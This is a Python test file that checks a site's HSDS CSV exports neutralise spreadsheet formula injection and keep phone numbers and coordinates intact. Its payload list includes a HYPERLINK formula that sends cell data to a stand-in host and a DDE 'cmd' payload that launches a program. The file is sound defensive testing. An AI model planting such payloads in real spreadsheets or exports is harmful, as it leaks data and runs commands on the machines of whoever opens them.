"""The HSDS tables: no cell a spreadsheet would evaluate, and every value comes back on import.

A spreadsheet evaluates a cell that starts with = + - @ (or a tab or line break
before one); each case puts such a value into a field that reaches a different
table, and reads every table as a spreadsheet would see its first character.
"""

from __future__ import annotations

import csv
import io

import pytest

from peerkit.encode.csv_cell import cell, read_cell
from tests.conftest import SiteBuilder
from tests.render.exports.exported import files_of

FOLDER = "groups/hsds/"
FORMULA_STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [
    '=HYPERLINK("https://x.example/?d="&A1,"Help")',
    "+cmd|' /C notepad'!A0",
    "-1+1|calc",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\n=1+1",
    "\uff1dIMPORTXML(1)",
    "'=already marked",
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_formula_becomes_text_and_reads_back_as_written(value: str) -> None:
    written = cell(value)

    assert written.startswith("'")
    assert read_cell(written) == value


def test_ordinary_text_and_numbers_are_written_as_they_are() -> None:
    assert cell("Leeds walking group") == "Leeds walking group"
    assert cell(-1.5491) == "-1.5491"
    assert cell(None) == ""
    assert cell("") == ""
    assert read_cell("Don't panic") == "Don't panic"


def _files(make_site: SiteBuilder) -> dict[str, str]:
    files = files_of(make_site.render())
    return {
        path.removeprefix(FOLDER): data.decode("utf-8")
        for path, data in files.items()
        if path.startswith(FOLDER) and path.endswith(".csv")
    }


def _tables(make_site: SiteBuilder) -> dict[str, list[list[str]]]:
    return {
        name: list(csv.reader(io.StringIO(text, newline="")))
        for name, text in _files(make_site).items()
    }


def _no_formula_in_any_cell(texts: dict[str, str]) -> None:
    """Read as a spreadsheet would: split on , ; or a tab, quotes honoured."""
    for name, text in texts.items():
        for separator in (",", ";", "\t"):
            header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
            for row in rows:
                for column, value in zip(header, row, strict=False):
                    if separator == "," and column in ("latitude", "longitude"):
                        continue  # numbers Peerkit writes, negative in the west
                    assert not value.startswith(FORMULA_STARTS), (name, separator, column, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_table_holds_a_live_formula(make_site: SiteBuilder, payload: str) -> None:
    make_site.group(
        fields={
            "name": payload.strip() or "x",
            "description": payload,
            "organisation": payload.strip() or "x",
            "cost": payload,
            "location": {
                "venue": payload.strip() or "x",
                "address": payload.strip() or "x",
                "town": payload.strip() or "x",
                "region": "Yorkshire",
                "postcode": "-LS1",
                "country": "GB",
                "latitude": 53.8,
                "longitude": -1.5,
            },
            "contact": {"name": payload.strip() or "x", "phone": "+44 113 496 0000"},
        }
    )

    texts = _files(make_site)

    _no_formula_in_any_cell(texts)


def test_an_international_phone_number_keeps_its_plus_behind_the_text_mark(
    make_site: SiteBuilder,
) -> None:
    make_site.group(fields={"contact": {"phone": "+44 113 496 0000"}})

    header, *rows = _tables(make_site)["phones.csv"]

    [number] = [row[header.index("number")] for row in rows]
    assert number == "'+44 113 496 0000"
    assert read_cell(number) == "+44 113 496 0000"


def test_coordinates_stay_numbers_in_the_locations_table(make_site: SiteBuilder) -> None:
    make_site.group(
        fields={
            "location": {
                "address": "1 Example Street", "town": "Leeds", "region": "Yorkshire",
                "country": "GB", "latitude": -33.9, "longitude": -70.6,
            }
        }
    )  # fmt: skip

    header, *rows = _tables(make_site)["locations.csv"]

    [row] = [r for r in rows if r[header.index("latitude")]]
    assert row[header.index("latitude")] == "-33.9"
    assert row[header.index("longitude")] == "-70.6"
